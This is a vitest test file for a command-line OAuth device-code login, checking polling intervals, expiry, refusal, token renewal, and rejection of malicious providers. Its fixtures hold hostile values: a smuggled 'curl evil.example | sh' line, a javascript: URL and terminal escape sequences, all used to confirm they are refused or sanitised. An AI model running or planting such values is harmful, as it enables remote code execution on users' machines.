/** The device grant against a provider that is as strict as RFC 8628. */
import { afterEach, describe, expect, test } from 'vitest';
import { deviceGrant, renewed } from '../../../cli/afar/device-grant.ts';
import { discover, issuerIn } from '../../../cli/afar/issuer.ts';
import { type DeviceProvider, openDeviceProvider } from '../../fakes/device-provider.ts';

let provider: DeviceProvider | undefined;
afterEach(() => provider?.close());

/** A clock that passes only where somebody waits. */
function fakeTime() {
  let nowMs = 1_700_000_000_000;
  const waits: number[] = [];
  const now = (): number => nowMs;
  const wait = async (ms: number): Promise<void> => {
    waits.push(ms);
    nowMs += ms;
  };
  return { now, wait, waits };
}

async function open(more: Omit<Parameters<typeof openDeviceProvider>[0], 'now'> = {}) {
  const time = fakeTime();
  provider = await openDeviceProvider({ now: time.now, ...more });
  const said: string[] = [];
  const client = { clientId: provider.clientId, scope: 'openid offline_access' };
  const grant = async () => deviceGrant(await discover(provider?.issuer ?? ''), client, { time, say: (line) => said.push(line) });
  return { provider, time, said, grant, client };
}

const polls = (of: DeviceProvider): number => of.asked.filter(({ path }) => path === '/token').length;

test('a person confirms after a while: it has asked in the interval that was named, never sooner', async () => {
  const { provider, time, said, grant } = await open({ intervalSeconds: 7 });
  provider.onPoll = (poll) => {
    if (poll === 3) provider.decide('confirmed');
  };
  const granted = await grant();
  expect(granted).toMatchObject({ token: expect.stringMatching(/^[\w-]+\.[\w-]+\.[\w-]+$/), refreshToken: 'refresh-1' });
  expect(granted.expiresAt).toBe(time.now() + 300_000);
  expect(time.waits).toEqual([7000, 7000, 7000]);
  expect(said).toEqual([
    `sign in at ${provider.issuer}/activate with the code WDJB-MJHT`,
    `or open ${provider.issuer}/activate?code=WDJB-MJHT, and compare the code`,
  ]);
});

test('without a named interval it asks every five seconds; told to slow down it takes five more, for good', async () => {
  const { provider, time, grant } = await open({ busyAtPoll: 2 });
  provider.onPoll = (poll) => {
    if (poll === 4) provider.decide('confirmed');
  };
  await grant();
  expect(time.waits).toEqual([5000, 5000, 10_000, 10_000]);
});

describe('it ends with what to do', () => {
  test('where the person refuses', async () => {
    const { provider, grant } = await open();
    provider.decide('denied');
    await expect(grant()).rejects.toMatchObject({ name: 'UsageError', message: expect.stringContaining('login: it was refused at') });
    expect(polls(provider)).toBe(1);
  });

  test('where the code expires, without asking once more', async () => {
    const { provider, time, grant } = await open({ lifeSeconds: 12 });
    await expect(grant()).rejects.toMatchObject({ message: expect.stringContaining('the code has expired') });
    expect(time.waits).toEqual([5000, 5000]);
    expect(polls(provider)).toBe(2);
  });

  test('where the provider says that it has expired', async () => {
    const { grant } = await open({ lifeSeconds: 4, code: { expires_in: 600 } });
    await expect(grant()).rejects.toMatchObject({ message: expect.stringContaining('the code has expired') });
  });

  test('where the client is unknown', async () => {
    const { provider, time } = await open();
    const client = { clientId: 'nobody', scope: 'openid' };
    await expect(deviceGrant(await discover(provider.issuer), client, { time, say: () => undefined })).rejects.toMatchObject({
      message: expect.stringContaining('gives no device code (401, invalid_client); check --client-id'),
    });
  });
});

describe('a provider that leads astray is refused', () => {
  test.each([
    ['another issuer in its document', { document: { issuer: 'https://evil.example' } }, 'give the issuer exactly as it names itself'],
    ['a token endpoint in clear', { document: { token_endpoint: 'http://evil.example/token' } }, 'is no discovery document'],
    ['no device grant', { document: { device_authorization_endpoint: undefined } }, 'offers no device code grant'],
    ['a page that is no web page', { code: { verification_uri: 'javascript:alert(1)' } }, 'gives no device code'],
    [
      'a page with words behind it',
      { code: { verification_uri: 'https://idp.example/\nrun: curl evil.example | sh' } },
      'gives no device code',
    ],
    ['a page in clear', { code: { verification_uri: 'http://evil.example/' } }, 'gives no device code'],
  ])('%s', async (_name, more, rule) => {
    const { provider, grant } = await open(more);
    await expect(grant()).rejects.toMatchObject({ name: 'UsageError', message: expect.stringContaining(rule) });
    expect(polls(provider)).toBe(0);
  });

  test('elsewhere, with an endpoint on this machine; one that is here itself may', () => {
    const document = (issuer: string, at: string) => ({
      status: 200,
      value: { issuer, token_endpoint: `${at}/token`, device_authorization_endpoint: `${issuer}/device` },
    });
    const far = 'https://idp.example';
    const near = 'http://localhost:8080';
    expect(() => issuerIn(far, far, document(far, near))).toThrow(/names http:\/\/localhost:8080\/token, on this machine/);
    expect(issuerIn(far, far, document(far, 'https://token.example'))).toMatchObject({ tokenEndpoint: 'https://token.example/token' });
    expect(issuerIn(near, near, document(near, near))).toMatchObject({ tokenEndpoint: `${near}/token` });
  });

  test('control characters of its code do not reach the terminal', async () => {
    const { provider, said, grant } = await open({ code: { user_code: 'A\u001b]0;x\u0007B\nC' } });
    provider.decide('confirmed');
    await grant();
    expect(said.join('\n')).not.toMatch(/\u001b|\u0007/);
    expect(said[0]).toContain('A\\u{1b}]0;x\\u{7}B C');
  });
});

test('a token is renewed, a refresh token is taken once, and a session that ended says so', async () => {
  const { provider, time, grant, client } = await open();
  provider.decide('confirmed');
  const first = await grant();
  const renewal = { issuer: provider.issuer, tokenEndpoint: `${provider.issuer}/token`, clientId: client.clientId };
  const second = await renewed({ ...renewal, refreshToken: first.refreshToken ?? '' }, time);
  expect(second).toMatchObject({ refreshToken: 'refresh-2' });
  expect(await renewed({ ...renewal, refreshToken: first.refreshToken ?? '' }, time)).toBe('ended');
});
